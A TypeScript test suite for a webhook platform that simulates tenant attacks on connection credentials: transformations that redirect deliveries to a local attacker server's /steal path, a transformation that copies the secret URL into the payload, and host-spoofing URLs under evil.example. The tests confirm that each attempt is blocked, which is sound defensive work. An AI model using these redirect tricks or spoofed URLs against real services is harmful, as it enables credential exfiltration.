import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { FAKE_CREDENTIALS, type Fakes, giveConsent, startFakes } from '@patchbay/fakes';
import sqlite3 from 'sqlite3';
import { kindModule } from '../src/catalog/catalog.ts';
import type { Capability } from '../src/domain/capabilities.ts';
import { type Json, manualClock, PUBLIC_URL, startApi } from './helpers.ts';
import { startReceiver } from './receiver.ts';
import { openSqliteStore } from './stores.ts';

/**
 * A portal session is held by a customer Patchbay does not trust. These are its attacks on the
 * credentials of its own connections: sending them to its own server, and reading webhook URLs
 * that are themselves the secret.
 */

let fakes: Fakes;
let attacker: Awaited<ReturnType<typeof startReceiver>>;
let api: Awaited<ReturnType<typeof startApi>>;
let dir: string;
let databaseFile: string;
/** A session with every capability: the customer connecting its services. */
let owner: string;
const clock = manualClock();

async function call(
  route: string,
  init: { method?: string; body?: unknown; token?: string; headers?: Record<string, string> } = {},
) {
  const res = await api.fetch(route, {
    method: init.method ?? (init.body === undefined ? 'GET' : 'POST'),
    ...(init.body === undefined ? {} : { body: JSON.stringify(init.body) }),
    ...(init.token ? { token: init.token } : {}),
    headers: init.headers ?? {},
  });
  const text = await res.text();
  return { status: res.status, json: (text ? JSON.parse(text) : undefined) as Json };
}

async function session(...capabilities: Capability[]): Promise<string> {
  return (await call('/api/v1/auth/app-portal-access/acme', { body: capabilities.length ? { capabilities } : {} })).json
    .token;
}

async function connector(kind: string, extra: object = {}): Promise<string> {
  const res = await call('/api/v1/connector', {
    body: {
      name: `${kind} ${Math.random()}`,
      kind,
      transformation: kindModule(kind)?.defaultTransformation ?? 'function handler(webhook) { return webhook; }',
      ...extra,
    },
  });
  assert.equal(res.status, 201, JSON.stringify(res.json));
  return res.json.id;
}

/** Connects `kind` with a form as its owner would; answers the endpoint. */
async function connect(kind: string, credentials: Record<string, string>, extra: object = {}): Promise<Json> {
  const res = await call(`/portal/v1/connectors/${await connector(kind, extra)}/connect`, {
    token: owner,
    body: { credentials, eventTypes: ['invoice.created'] },
  });
  assert.equal(res.status, 201, JSON.stringify(res.json));
  // Saved as the widget's review step does, so that it delivers.
  const saved = await call(`/portal/v1/drafts/${res.json.id}/save`, { token: owner, body: {} });
  assert.equal(saved.status, 200, JSON.stringify(saved.json));
  return saved.json;
}

/** HubSpot's OAuth round trip through its fake, as the popup and the widget make it; answers the endpoint id. */
async function connectHubspot(): Promise<string> {
  const id = await connector('Hubspot');
  const started = await call(`/portal/v1/connectors/${id}/connect/oauth`, {
    token: owner,
    body: { eventTypes: ['invoice.created'] },
    headers: { origin: new URL(PUBLIC_URL).origin },
  });
  const { callbackUrl } = await giveConsent(started.json.startUrl.replace(PUBLIC_URL, api.url), 'approve');
  const callback = await (await fetch(callbackUrl.replace(PUBLIC_URL, api.url))).text();
  const posted = /window\.opener\.postMessage\((\{.*?\}), "[^"]*"\)/.exec(callback)?.[1] ?? '{}';
  const claim = { code: JSON.parse(posted).code };
  await call(`/portal/v1/connect-sessions/${started.json.sessionId}/claim`, { token: owner, body: claim });
  const done = await call(`/portal/v1/connect-sessions/${started.json.sessionId}`, { token: owner });
  assert.equal(done.json.status, 'connected', JSON.stringify(done.json));
  await call(`/portal/v1/drafts/${done.json.endpointId}/save`, { token: owner, body: {} });
  return done.json.endpointId;
}

/** Switches every endpoint off, so a test's message reaches only the endpoints it makes next. */
async function disableAll() {
  for (const endpoint of (await call('/api/v1/app/acme/endpoint?limit=250')).json.data) {
    await call(`/api/v1/app/acme/endpoint/${endpoint.id}`, { method: 'PATCH', body: { disabled: true } });
  }
}

async function deliver(payload: object = { user: { email: 'ada@example.com', name: 'Ada' } }) {
  const res = await call('/api/v1/app/acme/msg', { body: { eventType: 'invoice.created', payload } });
  assert.equal(res.status, 202, JSON.stringify(res.json));
  while ((await api.worker.tick()) > 0);
  return res.json.id as string;
}

const attempts = async (endpointId: string, token?: string) =>
  (await call(`/api/v1/app/acme/attempt/endpoint/${endpointId}`, token ? { token } : {})).json.data;

/** What the customer's own transformation does with only ManageTransformations: send it all home. */
async function redirect(endpointId: string, to: string) {
  const transformer = await session('ManageTransformations');
  const res = await call(`/api/v1/app/acme/endpoint/${endpointId}/transformation`, {
    method: 'PATCH',
    token: transformer,
    body: { enabled: true, code: `function handler(webhook) { webhook.url = ${JSON.stringify(to)}; return webhook; }` },
  });
  assert.equal(res.status, 204, JSON.stringify(res.json));
}

before(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'patchbay-tenants-'));
  databaseFile = path.join(dir, 'patchbay.db');
  fakes = await startFakes({ redirectUris: [`${PUBLIC_URL}/oauth/hubspot/callback`] });
  attacker = await startReceiver();
  api = await startApi({
    clock,
    openStore: () => openSqliteStore(databaseFile),
    // Loopback must be reachable, or the SSRF guard (not this defence) would stop the attacker's server.
    delivery: { allowPrivateNetworks: true },
    oauth: { hubspot: { ...FAKE_CREDENTIALS.hubspot } },
    serviceBaseUrls: {
      SLACK: fakes.urls.slack,
      TEAMS: fakes.urls.teams,
      ZAPIER: fakes.urls.zapier,
      HUBSPOT: fakes.urls.hubspot,
      CLOSECRM: fakes.urls.closecrm,
      RESEND: fakes.urls.resend,
      INNGEST: fakes.urls.inngest,
    },
  });
  await call('/api/v1/app', { body: { name: 'Acme', uid: 'acme' } });
  await call('/api/v1/event-type', { body: { name: 'invoice.created', description: 'Created' } });
  owner = await session();
});
after(async () => {
  await api.close();
  await attacker.close();
  await fakes.stop();
  await rm(dir, { recursive: true, force: true });
});

describe("a connection's credentials stay with its service", () => {
  it('a ManageTransformations session pointing a Resend connection at its own server gets no request, and the attempt says why', async () => {
    await disableAll();
    const endpoint = await connect('Resend', { apiKey: FAKE_CREDENTIALS.resend.apiKey, from: 'a@acme.example' });
    await redirect(endpoint.id, `${attacker.url}/steal`);
    await deliver();
    assert.equal(attacker.at('/steal').length, 0, 'nothing reached the attacker');
    const [attempt] = await attempts(endpoint.id);
    assert.equal(attempt.responseStatusCode, 0);
    assert.equal(
      attempt.response,
      `Transformation sent the request to ${new URL(attacker.url).host}, not to api.resend.com: credentials are only sent to Resend`,
    );
  });

  it('the same for Basic auth (Close), a key in the path (Inngest), a Custom token and a HubSpot token, refreshed or not', async () => {
    await disableAll();
    const endpoints = [
      (await connect('CloseCRM', { apiKey: FAKE_CREDENTIALS.close.apiKey })).id,
      (await connect('Inngest', { eventKey: FAKE_CREDENTIALS.inngest.eventKey })).id,
      (
        await connect(
          'Custom',
          { url: `${fakes.urls.resend}/custom`, token: 'custom-bearer-token' },
          { authenticationMethod: 'HttpBearer' },
        )
      ).id,
      await connectHubspot(),
    ];
    // A 401 is what makes Patchbay refresh a HubSpot token and send it again.
    attacker.script('/steal', { status: 401 });
    for (const id of endpoints) await redirect(id, `${attacker.url}/steal`);
    fakes.hubspot.server.clear();
    await deliver();
    assert.equal(attacker.at('/steal').length, 0, 'nothing reached the attacker');
    assert.equal(fakes.hubspot.server.requests({ path: '/oauth/v3/token' }).length, 0, 'no token was refreshed');
    for (const id of endpoints) {
      const [attempt] = await attempts(id);
      assert.match(attempt.response, /^Transformation sent the request to 127\.0\.0\.1:\d+, not to .+: credentials/);
      assert.doesNotMatch(attempt.url, new RegExp(FAKE_CREDENTIALS.inngest.eventKey));
    }
  });

  it("still lets a transformation change the path on its service, or on a Custom connection's own origin; or send anywhere what carries no credentials", async () => {
    await disableAll();
    const open = await connect('Custom', { url: `${fakes.urls.closecrm}/hooks/open` });
    await redirect(open.id, `${attacker.url}/open`);
    const resend = await connect('Resend', { apiKey: FAKE_CREDENTIALS.resend.apiKey, from: 'a@acme.example' });
    const custom = await connect(
      'Custom',
      { url: `${fakes.urls.closecrm}/hooks/a`, token: 'custom-bearer-token' },
      { authenticationMethod: 'HttpBearer' },
    );
    await redirect(resend.id, 'https://api.resend.com/emails/batch');
    await redirect(custom.id, `${fakes.urls.closecrm}/hooks/b`);
    fakes.clear();
    await deliver();
    const [batch] = fakes.servers.resend?.requests({ path: '/emails/batch' }) ?? [];
    assert.equal(batch?.headers.authorization, `Bearer ${FAKE_CREDENTIALS.resend.apiKey}`);
    const [hook] = fakes.servers.close?.requests({ path: '/hooks/b' }) ?? [];
    assert.equal(hook?.headers.authorization, 'Bearer custom-bearer-token');
    const [unauthenticated] = await attacker.waitFor('/open', 1);
    assert.equal(unauthenticated?.headers.authorization, undefined);
  });

  it("a transformation sending elsewhere takes none of the endpoint's sensitive headers; on its origin, all of them", async () => {
    await disableAll();
    const away = (await call('/api/v1/app/acme/endpoint', { body: { url: `${fakes.urls.closecrm}/hooks/away` } })).json;
    const near = (await call('/api/v1/app/acme/endpoint', { body: { url: `${fakes.urls.closecrm}/hooks/near` } })).json;
    for (const id of [away.id, near.id]) {
      await call(`/api/v1/app/acme/endpoint/${id}/headers`, {
        method: 'PATCH',
        body: { headers: { 'X-Api-Key': 'vendor-internal-key-123', 'X-Team': 'blue' } },
      });
    }
    await redirect(away.id, `${attacker.url}/away`);
    await redirect(near.id, `${fakes.urls.closecrm}/hooks/elsewhere`);
    fakes.clear();
    await deliver();
    const [stolen] = await attacker.waitFor('/away', 1);
    assert.equal(stolen?.headers['x-api-key'], undefined, 'the sensitive header stayed behind');
    assert.equal(stolen?.headers['x-team'], 'blue');
    const [kept] = fakes.servers.close?.requests({ path: '/hooks/elsewhere' }) ?? [];
    assert.equal(kept?.headers['x-api-key'], 'vendor-internal-key-123', 'the same origin gets it');
  });

  it('moving an endpoint that holds credentials to another origin is refused with 409: give them again (or connect again)', async () => {
    const resend = await connect('Resend', { apiKey: FAKE_CREDENTIALS.resend.apiKey, from: 'a@acme.example' });
    const custom = await connect(
      'Custom',
      { url: `${fakes.urls.closecrm}/hooks/a`, token: 'custom-bearer-token' },
      { authenticationMethod: 'HttpBearer' },
    );
    const manager = await session('ManageEndpoint');
    for (const [endpoint, method, token] of [
      [resend.id, 'PATCH', undefined],
      [resend.id, 'PUT', undefined],
      [resend.id, 'PATCH', manager],
      [custom.id, 'PATCH', manager],
    ] as const) {
      const res = await call(`/api/v1/app/acme/endpoint/${endpoint}`, {
        method,
        ...(token ? { token } : {}),
        body: { url: `${attacker.url}/steal` },
      });
      assert.equal(res.status, 409, `${method} ${JSON.stringify(res.json)}`);
      assert.equal(res.json.code, 'reconnect_required');
      assert.match(
        res.json.detail,
        /credentials, which are only sent to .+: to deliver to 127\.0\.0\.1:\d+, give its credentials again with the new URL/,
      );
    }
    const moved = await call(`/api/v1/app/acme/endpoint/${resend.id}`, {
      method: 'PATCH',
      body: { url: 'https://api.resend.com/emails/batch' },
    });
    assert.equal(moved.status, 200, 'another URL of the same service is fine');
    const sameOrigin = await call(`/api/v1/app/acme/endpoint/${custom.id}`, {
      method: 'PATCH',
      token: manager,
      body: { url: `${fakes.urls.closecrm}/hooks/c` },
    });
    assert.equal(sameOrigin.status, 200, "and so is another path on a Custom connection's origin");
  });
});

describe('webhook URLs that are the secret', () => {
  let slack: { id: string; url: string };
  let teamsId: string;
  let zapierId: string;
  const teamsUrl = () => fakes.teams.workflowUrl();

  before(async () => {
    await disableAll();
    const url = fakes.slack.createWebhook();
    const made = await call('/api/v1/app/acme/endpoint', {
      body: { url, connectorId: await connector('Slack'), eventTypes: ['invoice.created'] },
    });
    assert.equal(made.status, 201, JSON.stringify(made.json));
    assert.equal(made.json.url, url, 'the vendor sees it whole');
    slack = { id: made.json.id, url };
    teamsId = (await connect('Teams', { url: teamsUrl() })).id;
    zapierId = (await connect('Zapier', { url: fakes.zapier.hookUrl() })).id;
  });

  it('are not in the database file in plain text, and deliveries still reach them', async () => {
    const secrets = [
      slack.url,
      new URL(slack.url).pathname.split('/').at(-1) as string,
      FAKE_CREDENTIALS.teams.sig,
      FAKE_CREDENTIALS.zapier.hookId,
    ];
    const rows = await new Promise<Json[]>((resolve, reject) => {
      const db = new sqlite3.Database(databaseFile, sqlite3.OPEN_READONLY);
      db.all(
        'SELECT e.url, c.ciphertext, c.hint FROM endpoints e JOIN endpoint_credentials c ON c.endpoint_id = e.id',
        (err, r) => db.close(() => (err ? reject(err) : resolve(r as Json[]))),
      );
    });
    assert.ok(
      rows.some((r) => r.url === `${fakes.urls.slack}/services/T0…/…`),
      JSON.stringify(rows.map((r) => r.url)),
    );
    const files = [databaseFile, `${databaseFile}-wal`];
    const bytes = (await Promise.all(files.map((f) => readFile(f).catch(() => Buffer.alloc(0))))).join('');
    for (const secret of secrets) {
      assert.ok(!JSON.stringify(rows).includes(secret), `${secret} is in a table`);
      assert.ok(!bytes.includes(secret), `${secret} is in the database file`);
    }

    fakes.clear();
    await deliver({ text: 'hello' });
    assert.equal(fakes.slack.server.requests({ path: new URL(slack.url).pathname }).length, 1, 'Slack got it');
    assert.equal(fakes.teams.server.requests({ path: '/workflows/' }).length > 0, true, 'Teams got it');
    assert.equal(fakes.zapier.server.requests({ path: '/hooks/catch/' }).length, 1, 'Zapier got it');
  });

  it('are masked for a ViewBase session, in endpoint and attempt answers; whole for the vendor and ViewEndpointSecret', async () => {
    const viewer = await session('ViewBase');
    const masked = `${fakes.urls.slack}/services/T0…/…`;
    assert.equal((await call(`/api/v1/app/acme/endpoint/${slack.id}`, { token: viewer })).json.url, masked);
    const listed = (await call('/api/v1/app/acme/endpoint?limit=250', { token: viewer })).json.data;
    assert.equal(listed.find((e: Json) => e.id === slack.id).url, masked);
    assert.match(listed.find((e: Json) => e.id === teamsId).url, /\/workflows\/[0-9a-f]{2}…\/…$/);
    assert.match(listed.find((e: Json) => e.id === zapierId).url, /\/hooks\/catch\/12…\/…$/);
    assert.deepEqual(
      (await attempts(slack.id, viewer)).map((a: Json) => a.url),
      [masked],
      'the attempt log shows the masked URL',
    );

    const secretViewer = await session('ViewEndpointSecret');
    assert.equal((await call(`/api/v1/app/acme/endpoint/${slack.id}`, { token: secretViewer })).json.url, slack.url);
    assert.equal((await call(`/api/v1/app/acme/endpoint/${slack.id}`)).json.url, slack.url);
  });

  it('are not given to a transformation: what it sends elsewhere carries none', async () => {
    const transformer = await session('ManageTransformations');
    const simulated = await call(`/api/v1/app/acme/endpoint/${slack.id}/transformation/simulate`, {
      token: transformer,
      body: {
        code: 'function handler(webhook) { webhook.payload = { leak: webhook.url }; return webhook; }',
        eventType: 'invoice.created',
        payload: {},
      },
    });
    assert.equal(simulated.status, 200, JSON.stringify(simulated.json));
    assert.doesNotMatch(simulated.json.payload, new RegExp(new URL(slack.url).pathname.split('/').at(-1) as string));
    await redirect(slack.id, `${attacker.url}/slack`);
    await deliver({ text: 'again' });
    const [stolen] = await attacker.waitFor('/slack', 1);
    assert.doesNotMatch(JSON.stringify(stolen), new RegExp(new URL(slack.url).pathname.split('/').at(-1) as string));
  });

  it('may be replaced by another URL of the same service, sealed in turn; not moved to another service', async () => {
    const next = fakes.slack.createWebhook();
    const moved = await call(`/api/v1/app/acme/endpoint/${slack.id}`, { method: 'PATCH', body: { url: next } });
    assert.equal(moved.json.url, next);
    const refused = await call(`/api/v1/app/acme/endpoint/${slack.id}`, {
      method: 'PATCH',
      body: { url: fakes.zapier.hookUrl() },
    });
    assert.equal(refused.status, 409);
    const app = (await call('/api/v1/app/acme')).json.id;
    const row = await api.store.endpoints.get(app, slack.id);
    assert.equal(row?.url, `${fakes.urls.slack}/services/T0…/…`, 'stored masked');
  });
});

describe('URLs are judged parsed, never by their spelling', () => {
  it('Teams: only a workflow URL whose parsed host is a Logic Apps or Power Platform one', async () => {
    const teams = await connector('Teams');
    for (const url of [
      'https://evil.example/x.logic.azure.com/workflows/1',
      'https://logic.azure.com.evil.example/workflows/1',
      'https://prod-1.logic.azure.com.evil.example/workflows/1',
      'https://evil.example\\prod-1.westus.logic.azure.com/workflows/1',
      'https://prod-1.westus.logic.azure.com@evil.example/workflows/1',
      'http://prod-1.westus.logic.azure.com/workflows/1',
      'https://evil.azure-api.net/workflows/1',
      'https://logic.azure.com/workflows/1',
    ]) {
      const res = await call(`/portal/v1/connectors/${teams}/connect`, {
        token: owner,
        body: { credentials: { url } },
      });
      assert.equal(res.status, 422, url);
      assert.match(res.json.detail[0].msg, /not a Microsoft Teams URL/, url);
    }
    const real =
      'https://prod-12.westus.logic.azure.com:443/workflows/0a1b/triggers/manual/paths/invoke?api-version=2016-06-01&sig=s3cr3t';
    const ok = await call(`/portal/v1/connectors/${teams}/connect`, {
      token: owner,
      body: { credentials: { url: real } },
    });
    assert.equal(ok.status, 201, JSON.stringify(ok.json));
    // The session that connected it holds ManageEndpoint, so it sees the whole URL; a ViewBase one would not.
    assert.equal(ok.json.url, real);
  });

  it('malformed URLs in any endpoint URL field answer 4xx {code, detail}, never 500', async () => {
    const bad = [
      'http://[::1',
      'http://%zz',
      'https://exa mple.com',
      'javascript:alert(1)',
      `https://${'a'.repeat(10_000)}.example/`,
      `https://example.com/${'a'.repeat(10_000)}`,
    ];
    const existing = (await call('/api/v1/app/acme/endpoint', { body: { url: 'https://example.com/a' } })).json.id;
    const custom = await connector('Custom');
    const windmill = await connector('Windmill');
    const zapier = await connector('Zapier');
    for (const url of bad) {
      const answers = [
        await call('/api/v1/app/acme/endpoint', { body: { url } }),
        await call(`/api/v1/app/acme/endpoint/${existing}`, { method: 'PUT', body: { url } }),
        await call(`/api/v1/app/acme/endpoint/${existing}`, { method: 'PATCH', body: { url }, token: owner }),
        await call(`/portal/v1/connectors/${custom}/connect`, { token: owner, body: { credentials: { url } } }),
        await call(`/portal/v1/connectors/${zapier}/connect`, { token: owner, body: { credentials: { url } } }),
        await call(`/portal/v1/connectors/${windmill}/connect`, {
          token: owner,
          body: {
            credentials: { instanceUrl: url, workspace: 'w', runnable: 'script', path: 'u/a/b', token: 't' },
          },
        }),
      ];
      for (const [i, res] of answers.entries()) {
        if (res.status < 300 && url.endsWith('a'.repeat(100))) continue; // a long path is still a URL
        assert.ok(res.status === 400 || res.status === 422, `${i}: ${url.slice(0, 40)} → ${res.status}`);
        assert.equal(typeof res.json.code, 'string');
        assert.ok(res.json.detail, 'with a detail');
      }
    }
  });
});

describe('changing where a connection delivers asks for its credentials again', () => {
  const connection = (endpointId: string, credentials: Record<string, string>, token = owner) =>
    call(`/portal/v1/endpoints/${endpointId}/connection`, { method: 'PUT', token, body: { credentials } });
  const endpoint = async (id: string) => (await call(`/api/v1/app/acme/endpoint/${id}`)).json;

  it('a ManageEndpoint session moving a HubSpot or Close connection to its own server is refused, and the key still goes only to the service', async () => {
    await disableAll();
    const close = (await connect('CloseCRM', { apiKey: FAKE_CREDENTIALS.close.apiKey })).id;
    const hubspot = await connectHubspot();
    const manager = await session('ViewBase', 'ManageEndpoint');
    for (const id of [close, hubspot]) {
      const before = (await endpoint(id)).url;
      for (const method of ['PATCH', 'PUT']) {
        const res = await call(`/api/v1/app/acme/endpoint/${id}`, {
          method,
          token: manager,
          body: { url: `${attacker.url}/steal` },
        });
        assert.equal(res.status, 409, `${method} ${JSON.stringify(res.json)}`);
        assert.equal(res.json.code, 'reconnect_required');
        assert.match(res.json.detail, /give its credentials again with the new URL/);
      }
      assert.equal((await endpoint(id)).url, before, 'the endpoint still delivers where it did');
    }
    // The form decides where a Close connection delivers: the session only gives the key again.
    const again = await connection(close, { apiKey: FAKE_CREDENTIALS.close.apiKey, url: `${attacker.url}/steal` });
    assert.equal(again.status, 200, JSON.stringify(again.json));
    assert.equal(again.json.url, 'https://api.close.com/api/v1/lead/', 'still Close');
    const oauth = await connection(hubspot, { accessToken: 'mine' });
    assert.equal(oauth.status, 409, JSON.stringify(oauth.json));
    assert.equal(oauth.json.code, 'oauth_required');
    fakes.clear();
    await deliver();
    assert.equal(attacker.at('/steal').length, 0, 'nothing reached the attacker');
    const [sent] = fakes.servers.close?.requests({ method: 'POST' }) ?? [];
    assert.ok(sent?.headers.authorization?.startsWith('Basic '), 'Close still gets its key');
  });

  it('a Custom connection moved to another origin carries only the credentials given with the new URL, never the stored ones', async () => {
    await disableAll();
    const custom = await connect(
      'Custom',
      { url: `${fakes.urls.closecrm}/hooks/a`, token: 'stored-bearer-token' },
      { authenticationMethod: 'HttpBearer' },
    );
    const refused = await call(`/api/v1/app/acme/endpoint/${custom.id}`, {
      method: 'PATCH',
      token: owner,
      body: { url: `${attacker.url}/moved` },
    });
    assert.equal(refused.status, 409);
    const moved = await connection(custom.id, { url: `${attacker.url}/moved` });
    assert.equal(moved.status, 200, JSON.stringify(moved.json));
    assert.equal(moved.json.url, `${attacker.url}/moved`);
    assert.deepEqual((await call(`/portal/v1/endpoints/${custom.id}/connection`, { token: owner })).json, {
      kind: 'Custom',
      hint: {},
    });
    await deliver();
    const [first] = await attacker.waitFor('/moved', 1);
    assert.equal(first?.headers.authorization, undefined, 'no token was given with it: none is sent');

    const renewed = await connection(custom.id, { url: `${attacker.url}/moved`, token: 'new-bearer-token' });
    assert.equal(renewed.status, 200, JSON.stringify(renewed.json));
    await deliver();
    const [, second] = await attacker.waitFor('/moved', 2);
    assert.equal(second?.headers.authorization, 'Bearer new-bearer-token');
    assert.ok(!attacker.received.some((r) => JSON.stringify(r.headers).includes('stored-bearer-token')));
  });

  it('takes only what the form takes, checked as connecting is, from a ManageEndpoint session of the same application', async () => {
    const custom = await connect(
      'Custom',
      { url: `${fakes.urls.closecrm}/hooks/a`, token: 'stored-bearer-token' },
      { authenticationMethod: 'HttpBearer' },
    );
    const missing = await connection(custom.id, { token: 'x' });
    assert.equal(missing.status, 422, JSON.stringify(missing.json));
    assert.deepEqual(missing.json.detail[0].loc, ['body', 'credentials', 'url']);
    const userInfo = await connection(custom.id, { url: `${attacker.url.replace('//', '//me:pw@')}/u` });
    assert.equal(userInfo.status, 422, JSON.stringify(userInfo.json));
    assert.deepEqual(userInfo.json.detail[0].loc, ['body', 'credentials', 'url']);
    const viewer = await session('ViewBase');
    assert.equal((await connection(custom.id, { url: `${attacker.url}/v` }, viewer)).status, 403);
    await call('/api/v1/app', { body: { name: 'Other', uid: 'other' } });
    const stranger = (await call('/api/v1/auth/app-portal-access/other', { body: {} })).json.token;
    assert.equal((await connection(custom.id, { url: `${attacker.url}/s` }, stranger)).status, 404);
    const plain = await call('/api/v1/app/acme/endpoint', { body: { url: `${attacker.url}/plain` } });
    const none = await connection(plain.json.id, { url: `${attacker.url}/p` });
    assert.equal(none.status, 409, JSON.stringify(none.json));
    assert.equal(none.json.code, 'no_connector');
    assert.equal((await endpoint(custom.id)).url, `${fakes.urls.closecrm}/hooks/a`, 'nothing refused changed it');
  });
  it("the sensitive headers a session cannot read stay behind when it moves an endpoint to another origin; the vendor's moves keep them", async () => {
    await disableAll();
    const headersOf = async (id: string) => (await call(`/api/v1/app/acme/endpoint/${id}/headers`)).json;
    const kept = { headers: { 'X-Team': 'blue' }, sensitive: ['X-Api-Key'] };
    const custom = await connect(
      'Custom',
      { url: `${fakes.urls.closecrm}/hooks/a`, token: 'stored-bearer-token' },
      { authenticationMethod: 'HttpBearer' },
    );
    const plain = (await call('/api/v1/app/acme/endpoint', { body: { url: `${fakes.urls.closecrm}/hooks/b` } })).json;
    const vendorKey = { 'X-Api-Key': 'vendor-internal-key-123', 'X-Team': 'blue' };
    for (const id of [custom.id, plain.id]) {
      const put = await call(`/api/v1/app/acme/endpoint/${id}/headers`, {
        method: 'PATCH',
        body: { headers: vendorKey },
      });
      assert.equal(put.status, 204, JSON.stringify(put.json));
    }
    const manager = await session('ViewBase', 'ManageEndpoint');
    const read = await call(`/api/v1/app/acme/endpoint/${custom.id}/headers`, { token: manager });
    assert.deepEqual(read.json, kept, 'the session cannot read it');
    // On the same origin everything stays.
    const samePlace = await call(`/api/v1/app/acme/endpoint/${plain.id}`, {
      method: 'PATCH',
      token: manager,
      body: { url: `${fakes.urls.closecrm}/hooks/c` },
    });
    assert.equal(samePlace.status, 200, JSON.stringify(samePlace.json));
    assert.deepEqual(await headersOf(plain.id), kept);
    const reconnected = await connection(custom.id, { url: `${attacker.url}/hdr` }, manager);
    assert.equal(reconnected.status, 200, JSON.stringify(reconnected.json));
    const patched = await call(`/api/v1/app/acme/endpoint/${plain.id}`, {
      method: 'PATCH',
      token: manager,
      body: { url: `${attacker.url}/hdr` },
    });
    assert.equal(patched.status, 200, JSON.stringify(patched.json));
    for (const id of [custom.id, plain.id]) {
      assert.deepEqual(await headersOf(id), { headers: { 'X-Team': 'blue' }, sensitive: [] });
    }
    await deliver();
    const got = await attacker.waitFor('/hdr', 2);
    for (const request of got) {
      assert.equal(request.headers['x-api-key'], undefined, 'the hidden header did not go to the new origin');
      assert.equal(request.headers['x-team'], 'blue', 'what the session can read goes on');
    }
    // The vendor moves its own endpoints with their headers, wherever.
    await call(`/api/v1/app/acme/endpoint/${plain.id}/headers`, { method: 'PATCH', body: { headers: vendorKey } });
    const vendorMove = await call(`/api/v1/app/acme/endpoint/${plain.id}`, {
      method: 'PATCH',
      body: { url: `${fakes.urls.closecrm}/hooks/back` },
    });
    assert.equal(vendorMove.status, 200, JSON.stringify(vendorMove.json));
    assert.deepEqual(await headersOf(plain.id), kept);
  });

  it('a session without the flag can neither name a hidden connector nor reconnect with one', async () => {
    const hidden = await connector('Custom', { featureFlags: ['beta'] });
    const manager = await session('ViewBase', 'ManageEndpoint');
    const direct = await call(`/portal/v1/connectors/${hidden}/connect`, {
      token: manager,
      body: { credentials: { url: `${attacker.url}/direct` } },
    });
    assert.equal(direct.status, 404, JSON.stringify(direct.json));
    const created = await call('/api/v1/app/acme/endpoint', {
      token: manager,
      body: { url: `${attacker.url}/plain2`, connectorId: hidden },
    });
    assert.equal(created.status, 422, JSON.stringify(created.json));
    assert.deepEqual(created.json.detail[0].loc, ['body', 'connectorId']);
    const plain = await call('/api/v1/app/acme/endpoint', { token: manager, body: { url: `${attacker.url}/plain2` } });
    assert.equal(plain.status, 201, JSON.stringify(plain.json));
    for (const method of ['PATCH', 'PUT']) {
      const named = await call(`/api/v1/app/acme/endpoint/${plain.json.id}`, {
        method,
        token: manager,
        body: { url: `${attacker.url}/plain2`, connectorId: hidden },
      });
      assert.equal(named.status, 422, `${method} ${JSON.stringify(named.json)}`);
      assert.deepEqual(named.json.detail[0].loc, ['body', 'connectorId']);
    }
    // The vendor may give it one; the session still cannot connect with it again.
    const given = await call(`/api/v1/app/acme/endpoint/${plain.json.id}`, {
      method: 'PATCH',
      body: { connectorId: hidden },
    });
    assert.equal(given.status, 200, JSON.stringify(given.json));
    const again = await connection(plain.json.id, { url: `${attacker.url}/via-reconnect` }, manager);
    assert.equal(again.status, 404, JSON.stringify(again.json));
    const flagged = (await call('/api/v1/auth/app-portal-access/acme', { body: { featureFlags: ['beta'] } })).json
      .token;
    const allowed = await connection(plain.json.id, { url: `${attacker.url}/via-reconnect` }, flagged);
    assert.equal(allowed.status, 200, JSON.stringify(allowed.json));
  });
});
